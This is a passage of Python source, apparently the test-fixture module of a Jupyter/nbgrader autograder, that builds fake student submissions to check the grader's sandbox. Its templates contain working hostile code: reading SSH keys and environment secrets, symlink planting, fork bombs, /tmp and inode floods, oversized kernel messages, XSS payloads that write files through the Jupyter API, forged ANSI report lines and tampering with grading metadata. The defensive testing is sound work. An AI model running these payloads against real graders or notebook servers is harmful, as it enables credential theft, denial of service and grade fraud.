            if not judge.judge_cell(rules, gid, pairs, pairs, givens=own).passed:
                lost += model.points[gid]
                if informative.get(gid):  # the report names the peer (integrity.copied_answers)
                    flags.append(f"{gid}: the answer is right for the numbers of ")
        return Case(kind, kind, model.auto_max - lost, flags=flags)

    out = [(Case(f"honest_{i}", f"honest_{i}", model.auto_max), _notebook(model, correct))
           for i in range(1, HONEST + 1)]
    out.append((copied("copies_peer", []), _notebook(model, {**correct, **pasted})))
    typed = _notebook(model, {**correct, **pasted})
    for cell in typed.cells:
        if cell.cell_type == "code" and variants.switch_of(cell.source) is not None:
            cell.execution_count = 1
            cell.outputs = [nbformat.v4.new_output(
                "execute_result", execution_count=1,
                data={"text/plain": repr(variants.givens(assignment, student=peer))})]
    out.append((copied("typed_identity", [f"worked with {peer}'s numbers"]), typed))
    return out


# ------------------------------------------------------------------------------ the host

@dataclass
class Host:
    """What an instructor's machine holds beside the course, for the attacks of
    :func:`host_cases_for` (issue 23): a home folder with a private key, last year's checkout
    of the course (with its solutions), the collect inbox with a classmate's work, a tool on the
    PATH, and a secret in the grader's environment. The attacks are told these paths (an
    attacker who knows the layout is the strongest case); none may be read, run or changed."""

    root: Path
    key: Path             # ~/.ssh/id_rsa
    old_checkout: Path    # ~/courses/dtp-2025 (solutions/ inside)
    inbox: Path           # ~/inbox/<classmate>/<assignment>.ipynb
    tool: Path            # an executable the instructor runs
    token: str            # the value of $COURSE_FAKE_TOKEN in the grader's environment
    marker: str           # text in the key, the classmate's work and the tool

    @classmethod
    def make(cls, root: Path, assignment: str) -> "Host":
        import secrets

        marker = f"HOST-SECRET-{secrets.token_hex(8)}"
        root.mkdir(parents=True, exist_ok=True)
        key = root / ".ssh" / "id_rsa"
        key.parent.mkdir(mode=0o700)
        key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{marker}\n")
        key.chmod(0o600)
        old = root / "courses" / "dtp-2025"
        (old / "solutions" / assignment).mkdir(parents=True)
        shutil.copy(ROOT / "solutions" / assignment / f"{assignment}.ipynb",
                    old / "solutions" / assignment / f"{assignment}.ipynb")
        inbox = root / "inbox" / "classmate"
        inbox.mkdir(parents=True)
        (inbox / f"{assignment}.ipynb").write_text(f'{{"note": "{marker}"}}')
        tool = root / "bin" / "backup"
        tool.parent.mkdir()
        tool.write_text(f"#!/bin/sh\necho {marker}\n")
        tool.chmod(0o755)
        return cls(root, key, old, root / "inbox", tool, f"TOKEN-{secrets.token_hex(8)}",
                   marker)

    def state(self) -> dict[str, tuple[int, int, str]]:
        """(mode, size, sha256) of every entry under the fake home (unchanged = untouched)."""
        import hashlib

        out = {}
        for path in sorted(self.root.rglob("*")):
            st = path.lstat()
            digest = (hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file()
                      and not path.is_symlink() else "")
            out[str(path)] = (st.st_mode, st.st_size, digest)
        return out


_READS_HOST = textwrap.dedent('''
    def _syn_reads_host(paths, assignment):
        """Everything an instructor's machine offers: keys, the grader's environment, last
        year's solutions (run them), a classmate's work; print what is found."""
        import glob, json, os, subprocess
        found = {{"environ": dict(os.environ)}}
        try:
            found["init environ"] = open("/proc/1/environ").read()
        except OSError:
            pass
        for name, path in paths.items():
            try:
                found[name] = open(path).read()[:2000]
            except OSError as e:
                found[name] = f"unreadable: {{e}}"
        for path in glob.glob("/home/*/.ssh/*") + glob.glob("/root/.ssh/*"):
            try:
                found[path] = open(path).read()[:2000]
            except OSError:
                pass
        try:
            found["tool"] = subprocess.run([paths["tool"]], capture_output=True, text=True,
                                           timeout=5).stdout
        except Exception as e:
            found["tool"] = f"could not run: {{e}}"
        print(json.dumps(found, default=str)[:5000])
        sols = [p for top in ("/root", "/home", "/srv", "/opt", "/mnt", "/media", "/var")
                for p in glob.glob(top + "/**/solutions/" + assignment + "/*.ipynb",
                                   recursive=True)][:3]
        for sol in [paths["old solutions"], *sols]:
            try:
                nb = json.load(open(sol))
            except (OSError, ValueError):
                continue
            for cell in nb["cells"]:
                src = "".join(cell["source"])
                if cell["cell_type"] == "code" and "BEGIN SOLUTION" in src:
                    exec(src, globals())
    _syn_reads_host({paths!r}, {assignment!r})
''')
_LINKS_IN_ITS_FOLDER = textwrap.dedent('''
    def _syn_links_in_its_folder(paths, notebook):
        """What an unsandboxed grader would follow after the kernel ends: its autograded
        notebook replaced by a link to a classmate's results, links to the solution, the
        instructor's key and tool (to be chmod-ed and copied into feedback), a named pipe (a
        reader waits forever), a sparse 2 GiB file, and the hidden test's own source."""
        import os
        def place(name, make):
            try:
                if os.path.lexists(name):
                    os.unlink(name)
                make(name)
            except OSError:
                pass
        place(notebook, lambda n: os.symlink(paths["classmate results"], n))
        place("solution.ipynb", lambda n: os.symlink(paths["solution"], n))
        place("id_rsa", lambda n: os.symlink(paths["key"], n))
        place("backup", lambda n: os.symlink(paths["tool"], n))
        place("gradebook.db", lambda n: os.symlink(paths["gradebook"], n))
        place("pipe", os.mkfifo)
        place("sparse.bin", lambda n: open(n, "wb").truncate(2 * 2**30))
        place("hidden_test.py", lambda n: open(n, "w").write(str(globals().get("In", ""))[-4000:]))
    _syn_links_in_its_folder({paths!r}, {notebook!r})
''')
_SOCKET_FOLDER = textwrap.dedent('''
    def _syn_socket_folder(paths):
        """Its socket folder (named in the connection file) is the one folder of the host it can
        write: plant a link where an unsandboxed grader rewrote `hosts` at every restart, a
        named pipe and a big file there, then die (the grader restarts the kernel)."""
        import json, os, sys
        conn = sys.argv[sys.argv.index("-f") + 1] if "-f" in sys.argv else None
        try:
            folder = os.path.dirname(json.load(open(conn))["ip"])
        except Exception:
            folder = None
        if folder and not globals().get("_syn_died"):
            for name, make in (("hosts", lambda p: os.symlink(paths["gradebook"], p)),
                               ("pipe", os.mkfifo),
                               ("big.bin", lambda p: open(p, "wb").write(b"x" * 50_000_000))):
                try:
                    make(os.path.join(folder, name))
                except OSError:
                    pass
            globals()["_syn_died"] = True
            os._exit(1)
    _syn_socket_folder({paths!r})
''')
_TMP_FLOOD = textwrap.dedent('''
    # Fill the private /tmp (RAM) past the kernel's memory, in files below the file-size
    # limit: RLIMIT_AS does not count tmpfs, only a memory cgroup stops it ({gib} GiB).
    for _i in range({gib} * 8):
        with open(f"/tmp/flood{{_i}}.bin", "wb") as _f:
            for _ in range(128):
                _f.write(b"x" * 2**20)
''')
_BIG_FILE = textwrap.dedent('''
    # One file larger than the file-size limit.
    with open("big.bin", "wb") as _f:
        for _ in range(1024):
            _f.write(b"x" * 2**20)
''')
_HUGE_PRINTS = "for _ in range(3):\n    print('x' * 100_000_000)\n"
_DEEP_DISPLAY = textwrap.dedent('''
    # A display message nested 200,000 deep, sent past ipykernel's own serializer.
    import json as _json
    _k = get_ipython().kernel
    _n = 200_000
    _content = (b'{"data": {"text/plain": "x", "application/json": ' + b"[" * _n + b"]" * _n
                + b'}, "metadata": {}}')
    _parts = [_json.dumps(_k.session.msg_header("display_data"), default=str).encode(),
              _json.dumps(_k.get_parent().get("header", {}), default=str).encode(), b"{}",
              _content]
    _k.session.send_raw(_k.iopub_socket, _parts, ident=b"display_data")
    import time as _time
    _time.sleep(1)
''')
_DEEP_CODE = "x = a" + ".b" * 100_000 + "\n"

# Issue 41: what a submission does to the instructor's browser, to classmates and to the grader.
_COUNT = "window.top.__course_pwned = (window.top.__course_pwned || 0) + 1"
_SCRIPT_PUT = ("fetch('/api/contents/test-artifacts/pwned-{marker}.txt', {{method: 'PUT', "
               "headers: {{'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''"
               ", 'Content-Type': 'application/json'}}, body: JSON.stringify({{type: 'file', "
               "format: 'text', content: 'written by a student'}})}})")
SCRIPT_MARKER = "PWNED-by-a-submission"
# what each payload runs: count itself where the page can see it, and write a file into the
# instructor's repository through the Jupyter API (the session's own XSRF cookie)
SCRIPT_JS = f"{_COUNT}; " + _SCRIPT_PUT.format(marker=SCRIPT_MARKER)
_SCRIPT_OUTPUTS = textwrap.dedent('''
    # Outputs that would run as script wherever the notebook is rendered: the formgrader (in the
    # instructor's authenticated Jupyter origin) and the student's feedback page.
    from IPython.display import HTML, Javascript, Markdown, SVG, Latex, display
    _js = {js!r}
    display(HTML(f"<script>{{_js}}</script><img src=x onerror=\\"{{_js}}\\">"
                 f"<a href=\\"javascript:{{_js}}\\">{marker} link</a>"
                 f"<iframe srcdoc=\\"<script>{{_js}}</script>\\"></iframe>"))
    display(Javascript(_js))
    display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{{_js}}\\">"
                f"<script>{{_js}}</script></svg>"))
    display(Markdown(f"<img src=x onerror=\\"{{_js}}\\"> [{marker}](javascript:{{_js}})"))
    display(Latex(f"$\\\\href{{{{javascript:{{_js}}}}}}{{{{{marker}}}}}$"))
    display({{"image/png": f"AAAA\\"><script>{{_js}}</script>", "text/plain": "a picture"}},
            raw=True)
''')
_SCRIPT_ANSWER = ("My explanation. <script>{js}</script><img src=x onerror=\"{js}\"> "
                  "[see this](javascript:{js}) <a href=\"javascript:{js}\">{marker}</a> "
                  "<iframe srcdoc=\"<script>{js}</script>\"></iframe> "
                  "<svg onload=\"{js}\"></svg> <form action=\"javascript:{js}\">"
                  "<button>{marker}</button></form>")
_SHM_INODES = textwrap.dedent('''
    # Every inode of the folder the grader's sockets live in (the machine's /dev/shm on a grader
    # without its own tmpfs per kernel: 3 million inodes that every kernel's folder needs), then
    # {files:,} in the sandbox's own /tmp (a tmpfs of its own, its memory counted in the kernel's).
    import json, os, sys, time
    _conn = sys.argv[sys.argv.index("-f") + 1] if "-f" in sys.argv else None
    _folder = os.path.dirname(json.load(open(_conn))["ip"]) if _conn else "/tmp"
    _made, _end = {{}}, time.monotonic() + {seconds}
    for _where, _most in ((_folder, 4_000_000), ("/tmp", {files})):
        _made[_where] = 0
        try:
            while time.monotonic() < _end and _made[_where] < _most:
                open(os.path.join(_where, f"i{{_made[_where]}}"), "w").close()
                _made[_where] += 1
        except OSError:
            pass
    print(_made)
''')
_DEEP_LEFTOVERS = textwrap.dedent('''
    # What the grader must remove when the kernel ends: a 3,000-deep chain of folders, a
    # folder of mode 000, names that look like options, 64 MiB, and a link to the key.
    import json, os, sys
    _conn = sys.argv[sys.argv.index("-f") + 1] if "-f" in sys.argv else None
    _folder = os.path.dirname(json.load(open(_conn))["ip"]) if _conn else None
    for _base in [p for p in (_folder, "/tmp") if p]:
        try:
            _d = _base
            for _i in range(3000):
                _d = os.path.join(_d, "d")
                os.mkdir(_d)
        except OSError:
            pass
        for _name, _make in (("-rf", lambda p: open(p, "w").close()),
                             ("big.bin", lambda p: open(p, "wb").write(b"x" * 64 * 2**20)),
                             ("locked", lambda p: (os.mkdir(p), open(os.path.join(p, "f"), "w"),
                                                   os.chmod(p, 0)))):
            try:
                _make(os.path.join(_base, _name))
            except OSError:
                pass
        try:
            os.symlink({key!r}, os.path.join(_base, "key-link"))
        except OSError:
            pass
''')
_CPU_HOG = textwrap.dedent('''
    # 700 busy processes, each detached (new session, double fork), spinning for up to
    # {seconds} s once all are started; this cell then waits while they run: a classmate's
    # kernel must keep its CPU.
    import os, time
    for _ in range(700):
        try:
            _pid = os.fork()
        except OSError:
            break
        if _pid == 0:
            os.setsid()
            if os.fork() == 0:
                while not os.path.exists("/tmp/go"):
                    time.sleep(0.05)
                _stop = float(open("/tmp/go").read() or 0)
                while time.time() < _stop:
                    pass
            os._exit(0)
        os.waitpid(_pid, 0)
    open("/tmp/go.tmp", "w").write(str(time.time() + {seconds}))
    os.rename("/tmp/go.tmp", "/tmp/go")
    time.sleep({wait})
''')
_SLOW_HONEST = textwrap.dedent('''
    # This student's own slow way of working: {cpu} s of computing before the answer.
    import time as _time
    _t0 = _time.process_time()
    while _time.process_time() - _t0 < {cpu}:
        pass
''')
_HUGE_SHAPES = textwrap.dedent('''
    # One display message of 15 million zeros (28.6 MiB, under the 32 MiB message limit), sent
    # past ipykernel's serializer: parsed and walked naively it takes the grader 1.3 GiB.
    import json as _json, time as _time
    _k = get_ipython().kernel
    _content = b'{"data": {"application/json": [' + b"0," * 15_000_000 + b'0]}, "metadata": {}}'
    _parts = [_json.dumps(_k.session.msg_header("display_data"), default=str).encode(),
              _json.dumps(_k.get_parent().get("header", {}), default=str).encode(), b"{}",
              _content]
    _k.session.send_raw(_k.iopub_socket, _parts, ident=b"display_data")
    _time.sleep(1)
''')
_TYPE_NAMES = ("{name} = [type(f'T{{i}}', (), {{}})() for i in range(80_000)]  "
               "# 80,000 distinct type names, one message")
_FORGED_REPORT = textwrap.dedent('''
    # The test cell of {name} raises an exception whose name and message would write lines of
    # their own into a report printed in a terminal (and hide the real one).
    import builtins as _b
    class _Forged(Exception):
        pass
    _Forged.__name__ = _Forged.__qualname__ = "Error\\nr3_ghost: 10 / 10\\x1b[2K\\r"
    _b._syn_forged = _Forged
    def _syn_forge(lines):  # (stateless: ipykernel transforms each cell twice)
        text = "".join(lines)
        if "submit(" in text and {name!r} in text:
            return ["raise _syn_forged('\\\\r\\\\x1b[1A\\\\x1b[2Kq1 passed\\\\nr4_ghost: 10 / 10')\\n"]
        return lines
    get_ipython().input_transformers_post.append(_syn_forge)
''')


def _added_cell(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """``nb`` with one more code cell at the end, as a student adds one."""
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def _edit_metadata(nb: nbformat.NotebookNode, *, points: float | None = None,
                   ungrade: bool = True) -> nbformat.NotebookNode:
    """Edit the nbgrader metadata of the test cells as a student can in any editor."""
    tests = [c for c in nb.cells if is_test_cell(c)]
    if ungrade and tests:
        tests[0].metadata["nbgrader"]["grade"] = False      # "not a test any more"
    if ungrade and len(tests) > 1:
        tests[1].metadata["nbgrader"]["solution"] = True    # "an answer of mine"
    if ungrade and len(tests) > 2:
        tests[2].metadata["nbgrader"]["grade_id"] = "mine"  # a new name
    for cell in tests[3:] if ungrade else tests:
        if points is not None:
            cell.metadata["nbgrader"]["points"] = points
    return nb


HOST_ATTACKS = ["cpu_hog", "slow_honest", "reads_host", "links_in_its_folder", "socket_folder",
                "tmp_flood", "big_file", "huge_prints", "deep_display", "deep_code",
                "edits_metadata", "inflates_points", "uses_helper_computed", "script_outputs",
                "shm_inodes", "deep_leftovers", "huge_shapes", "type_names", "forged_report"]
# (cpu_hog and slow_honest first: graded at the same time, one in each of two workers)


def host_cases_for(assignment: str, host: Host, data: Path,
                   memory_gb: float = 6.0) -> list[tuple[Case, dict]]:
    """The attacks on the instructor's machine and on the grader around the judge (issue 23),
    each with the score it deserves: the answers it comes with (wrong ones, or right ones with
    the attack in a cell of its own), nothing more. ``data``: the course data folder graded;
    ``memory_gb``: the kernels' memory limit (the /tmp flood writes 1 GiB more)."""
    from grading import sandbox

    [model] = load(assignment)
    full, name = model.auto_max, model.name
    correct = {**_answer_codes(model, lambda g, c: c), **model.manual}
    wrong = _answer_codes(model, lambda g, c: f"{c}\n{_WRONG}\n{_apply(assigned_names(c), '_syn_wrong')}")
    paths = {"key": str(host.key), "tool": str(host.tool),
             "old solutions": str(host.old_checkout / "solutions" / assignment / name),
             "classmate": str(host.inbox / "classmate" / name),
             "classmate results": str(data / "autograded" / "correct" / assignment / name),
             "solution": str(ROOT / "solutions" / assignment / name),
             "gradebook": str(data / "gradebook.db")}
    out: list[tuple[Case, dict]] = []

    def add(kind, deserved, nb, **kw):
        out.append((Case(kind, kind, deserved, side_effects=True, **kw), {name: nb, "_files": {}}))

    first = _first_answer(model)
    hog_s = 25  # (the cell's own wait is under the suite's 10 s cell timeout: interrupted or not)
    add("cpu_hog", full, _added_cell(_notebook(model, correct),
                                     _CPU_HOG.format(seconds=hog_s, wait=8)),
        limits=["left running"])
    add("slow_honest", full, _notebook(model, {**correct, first: _SLOW_HONEST.format(cpu=2.0)
                                               + correct[first]}))
    reads = _READS_HOST.format(paths=paths, assignment=assignment)
    add("reads_host", 0.0, _notebook(model, {g: f"{reads}\n{c}" for g, c in wrong.items()}))
    add("links_in_its_folder", full, _added_cell(_notebook(model, correct), _LINKS_IN_ITS_FOLDER
                                                 .format(paths=paths, notebook=name)))
    add("socket_folder", full, _added_cell(_notebook(model, correct),
                                           _SOCKET_FOLDER.format(paths=paths)))
    add("tmp_flood", full, _added_cell(_notebook(model, correct),
                                       _TMP_FLOOD.format(gib=int(memory_gb) + 1)),
        limits=["memory limit"] if sandbox.has_memory_cgroup() else [])
    add("big_file", full, _added_cell(_notebook(model, correct), _BIG_FILE),
        limits=["file-size limit"])
    add("huge_prints", full, _added_cell(_notebook(model, correct), _HUGE_PRINTS),
        limits=["over 32 MiB"])
    add("deep_display", full, _added_cell(_notebook(model, correct), _DEEP_DISPLAY),
        limits=["could not read"])
    add("deep_code", full, _added_cell(_notebook(model, correct), _DEEP_CODE),
        flags=["could not be scanned"])
    add("edits_metadata", 0.0, _edit_metadata(_notebook(model, wrong)),
        flags=["nbgrader metadata edited"])
    add("inflates_points", full, _edit_metadata(_notebook(model, correct), points=100,
                                                ungrade=False),
        flags=["nbgrader metadata edited (points)"])
    scripted = _added_cell(_notebook(model, correct), _SCRIPT_OUTPUTS.format(
        js=SCRIPT_JS, marker=SCRIPT_MARKER))
    for cell in scripted.cells:  # every written answer is a page of script too
        if cell.cell_type == "markdown" and _meta(cell).get("solution"):
            cell.source = _SCRIPT_ANSWER.format(js=SCRIPT_JS, marker=SCRIPT_MARKER)
    add("script_outputs", full, scripted)
    add("shm_inodes", full, _added_cell(_notebook(model, correct),
                                        _SHM_INODES.format(seconds=20, files=20_000)))
    add("deep_leftovers", full, _added_cell(_notebook(model, correct),
                                            _DEEP_LEFTOVERS.format(key=str(host.key))))
    add("huge_shapes", full, _added_cell(_notebook(model, correct), _HUGE_SHAPES),
        limits=["could not read"])
    [typed_name] = [n for n in assigned_names(correct[first]) if not n.startswith("_")][:1]
    add("type_names", full - model.points_of(first), _notebook(model, {
        **correct, first: f"{correct[first]}\n" + _TYPE_NAMES.format(name=typed_name)}))
    forged = _notebook(model, {**correct, first: f"{correct[first]}\n"
                                                 + _FORGED_REPORT.format(name=typed_name)})
    test = next(c for c in forged.cells if is_test_cell(c))
    test.metadata["nbgrader"]["x\nr5_ghost: 10 / 10\x1b[2K"] = True  # a key that is a line
    add("forged_report", full - model.points[_meta(test)["grade_id"]], forged,
        flags=["nbgrader metadata edited"])
    not_allowed = getattr(judge.load(assignment), "HELPERS_NOT_ALLOWED", {})
    if not_allowed:
        gid = next(g for g in correct if g in not_allowed)
        module, _, fn = not_allowed[gid][0].partition(".")
        half = len(fn) // 2
        add("uses_helper_computed", full, _notebook(model, {**correct, gid: (
            f"{correct[gid]}\nfrom course_utils import {module} as _syn_mod\n"
            f"_syn_helper = getattr(_syn_mod, {fn[:half]!r} + {fn[half:]!r})")}),
            flags=[f"uses course_utils.{module}.{fn}"])
    return out


def write(cases: list[tuple[Case, dict]], submitted: Path, assignment: str,
          prefix: str = "") -> list[Case]:
    """Write each case as ``submitted/<prefix><student>/<assignment>/``; returns the cases."""
    written = []
    for case, files in cases:
        case = copy.copy(case)
        case.student = prefix + case.student
        target = submitted / case.student / assignment
        if target.exists():
            shutil.rmtree(target)
        target.mkdir(parents=True)
        for rel, content in files.items():
            if rel == "_files":
                for extra, text in content.items():
                    (target / extra).parent.mkdir(parents=True, exist_ok=True)
                    (target / extra).write_text(text)
            elif content is None:
                continue
            elif isinstance(content, str):
                (target / rel).write_text(content)
            else:
                nbformat.write(content, target / rel)
        written.append(case)
    return written


def mechanics_of(assignment: str) -> frozenset:
    """The :data:`MECHANICS` kinds graded on ``assignment`` in the test suite."""
    return MECHANICS_ON.get(assignment, frozenset())


def build(assignment: str, submitted: Path, references: dict | None = None,
          prefix: str = "", kinds: set[str] | None = None,
          mechanics: bool | frozenset = True) -> list[Case]:
    """Write the synthetic submissions of ``assignment`` (optionally only ``kinds``), with
    every :data:`MECHANICS` kind (``mechanics=True``), none (False) or those in the set given."""
    keep = MECHANICS if mechanics is True else (mechanics or frozenset())
    cases = [(c, f) for c, f in cases_for(assignment, references, prefix)
             if (kinds is None or c.kind in kinds) and (c.kind not in MECHANICS or c.kind in keep)]
    return write(cases, submitted, assignment, prefix)


def clone(assignment: str, submitted: Path, kind: str, n: int, references: dict | None = None,
          prefix: str = "s") -> list[str]:
    """``n`` students submitting the same synthetic ``kind`` (for benchmarks)."""
    [(case, files)] = [(c, f) for c, f in cases_for(assignment, references) if c.kind == kind]
    students = []
    for i in range(n):
        [w] = write([(case, files)], submitted, assignment, prefix=f"{prefix}{i:03d}_")
        students.append(w.student)
    return students


__all__ = ["Case", "EXECUTOR_CLASS", "HOST_ATTACKS", "Host", "MECHANICS", "MECHANICS_ON",
           "mechanics_of", "TYPICAL_MISTAKES", "OWN_ATTACKS", "UNIT_MISTAKES", "assigned_names",
           "build", "cases_for", "clone", "host_cases_for", "load", "solution_code", "write"]
